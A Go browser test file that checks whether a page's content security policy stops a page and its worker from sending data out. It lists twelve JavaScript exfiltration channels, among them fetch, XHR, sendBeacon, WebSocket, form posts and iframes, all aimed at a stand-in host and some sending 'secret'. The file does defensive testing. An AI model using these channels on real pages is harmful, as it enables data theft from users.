package e2e

import (
	"fmt"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
)

// Ways out of a page and of a worker; each is an expression that settles when
// the attempt is over.
var ways = []struct {
	name, script string
	worker       bool
}{
	{"fetch", `fetch("http://elsewhere.test/%s").catch(() => 0)`, true},
	{"fetch-no-cors", `fetch("http://elsewhere.test/%s", {mode: "no-cors", method: "POST", body: "secret"}).catch(() => 0)`, true},
	{"xhr", `new Promise((done) => { const x = new XMLHttpRequest(); x.onloadend = done; x.open("POST", "http://elsewhere.test/%s"); x.send("secret"); }).catch(() => 0)`, true},
	{"websocket", `new Promise((done) => { try { const s = new WebSocket("ws://elsewhere.test/%s"); s.onerror = s.onclose = s.onopen = done; } catch { done(); } })`, true},
	{"event-source", `new Promise((done) => { const s = new EventSource("http://elsewhere.test/%s"); s.onerror = () => { s.close(); done(); }; })`, true},
	{"import", `import("http://elsewhere.test/%s.js").catch(() => 0)`, true},
	{"beacon", `navigator.sendBeacon("http://elsewhere.test/%s", "secret")`, false},
	{"image", `new Promise((done) => { const i = new Image(); i.onerror = i.onload = done; i.src = "http://elsewhere.test/%s.png"; })`, false},
	{"prefetch", `new Promise((done) => { const l = document.createElement("link"); l.rel = "prefetch"; l.href = "http://elsewhere.test/%s"; l.onerror = l.onload = done; setTimeout(done, 300); document.head.append(l); })`, false},
	{"style-sheet", `new Promise((done) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "http://elsewhere.test/%s.css"; l.onerror = l.onload = done; document.head.append(l); })`, false},
	{"form", `new Promise((done) => { const f = document.createElement("form"); f.method = "post"; f.action = "http://elsewhere.test/%s"; document.body.append(f); f.submit(); setTimeout(done, 300); })`, false},
	{"frame", `new Promise((done) => { const f = document.createElement("iframe"); f.src = "http://elsewhere.test/%s"; f.onload = f.onerror = done; setTimeout(done, 300); document.body.append(f); })`, false},
}

// TestNothingLeaves tries every way out, in the page and in the engine's own
// worker, on a host that sends no headers: there the policy in the page is all
// there is.
func TestNothingLeaves(t *testing.T) {
	for _, way := range ways {
		t.Run(way.name, func(t *testing.T) {
			p := openSite(t, shared.site, "/", false)
			p.must("open", p.visit())
			contexts := map[string]interface {
				run(script string) error
			}{"page": inPage{p}}
			if way.worker {
				contexts["worker"] = inWorker{p}
			}
			for where, in := range contexts {
				if err := in.run(fmt.Sprintf(way.script, where)); err != nil {
					t.Errorf("%s: %v", where, err)
				}
			}
			p.must("flush", p.watch.flush(p.ctx))
			if caught := shared.trap.take(); len(caught) > 0 {
				t.Errorf("went out: %q", caught)
			}
			refused := strings.Join(p.watch.take(), "\n")
			for where := range contexts {
				// Of a frame and a form only the origin is told.
				if !strings.Contains(refused, "elsewhere.test/"+where) && !strings.Contains(refused, "'http://elsewhere.test/'") {
					t.Errorf("the %s was not told that its request is refused; said was\n%s", where, refused)
				}
			}
		})
	}
}

type inPage struct{ p *tab }

func (in inPage) run(script string) error {
	_, err := evaluate[bool](in.p, "Promise.resolve("+script+").then(() => true)")
	return err
}

type inWorker struct{ p *tab }

func (in inWorker) run(script string) error {
	worker, err := in.p.watch.newestWorker(in.p.ctx)
	if err != nil {
		return err
	}
	_, err = chromedp.Run(worker, chromedp.Evaluate[bool]("Promise.resolve("+script+").then(() => true)", chromedp.EvalAwaitPromise))
	return err
}

// TestOwnRequests: a visit asks for the page's own files and nothing else, each
// once.
func TestOwnRequests(t *testing.T) {
	p := open(t, "/under/a/path/", true)
	p.must("open", p.visit())
	p.must("paste", p.paste(boxes["input"], "SF-Port7-TCP:V=7.94%I=7%D=11/24%Time=6924A1B2%P=x%r(NULL,2,\"hi\");"))
	p.must("settle", p.settle())
	p.server.mu.Lock()
	defer p.server.mu.Unlock()
	seen := map[string]int{}
	for _, path := range p.server.asked {
		seen[path]++
		if !strings.HasPrefix(path, "/under/a/path/") {
			t.Errorf("asked for %s, outside its own path", path)
		}
	}
	for path, n := range seen {
		if n > 1 {
			t.Errorf("asked %d times for %s", n, path)
		}
	}
	t.Logf("%d files: %v", len(seen), seen)
}
